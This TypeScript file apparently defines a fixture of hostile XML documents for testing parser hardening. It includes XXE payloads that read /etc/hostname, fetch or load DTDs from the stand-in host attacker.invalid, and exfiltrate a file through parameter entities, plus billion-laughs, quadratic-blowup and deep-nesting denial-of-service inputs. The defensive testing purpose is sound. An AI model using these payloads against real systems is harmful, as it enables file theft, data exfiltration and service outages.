/** Documents that hurt a careless XML parser. They name only harmless addresses; nothing here is ever parsed as it stands. */
export interface XmlAttack {
  readonly does: string;
  readonly document: string;
}

export const xmlAttacks = {
  'external-file': {
    does: 'reads a local file through an external entity',
    document: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n<a>&x;</a>\n',
  },
  'external-http': {
    does: 'makes the parser fetch an address',
    document: '<!DOCTYPE a [<!ENTITY x SYSTEM "http://attacker.invalid/x">]>\n<a>&x;</a>\n',
  },
  'external-dtd': {
    does: 'loads a document type from elsewhere',
    document: '<!DOCTYPE a SYSTEM "http://attacker.invalid/a.dtd">\n<a/>\n',
  },
  'parameter-entity': {
    does: 'sends a file away through parameter entities',
    document:
      '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname">' +
      '<!ENTITY % d SYSTEM "http://attacker.invalid/d.dtd">%d;]>\n<a/>\n',
  },
  'billion-laughs': { does: 'grows a thousand bytes to gigabytes', document: billionLaughs() },
  'quadratic-blowup': {
    does: 'repeats one large entity many times',
    document: `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(5000)}">]>\n<a>${'&x;'.repeat(5000)}</a>\n`,
  },
  'deep-nesting': {
    does: 'exhausts the stack by 10,000 nested elements',
    document: `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}\n`,
  },
  'undeclared-entity': { does: 'uses an entity that nobody declared', document: '<a>&secret;</a>\n' },
  xinclude: {
    does: 'includes a local file without any DOCTYPE; well-formed, and harmless to who does not process it',
    document:
      '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></a>\n',
  },
} as const satisfies Record<string, XmlAttack>;

export type XmlAttackName = keyof typeof xmlAttacks;

function billionLaughs(): string {
  const entities = ['<!ENTITY a0 "ha">'];
  for (let level = 1; level <= 9; level++)
    entities.push(`<!ENTITY a${level} "${`&a${level - 1};`.repeat(10)}">`);
  return `<!DOCTYPE a [\n${entities.join('\n')}\n]>\n<a>&a9;</a>\n`;
}
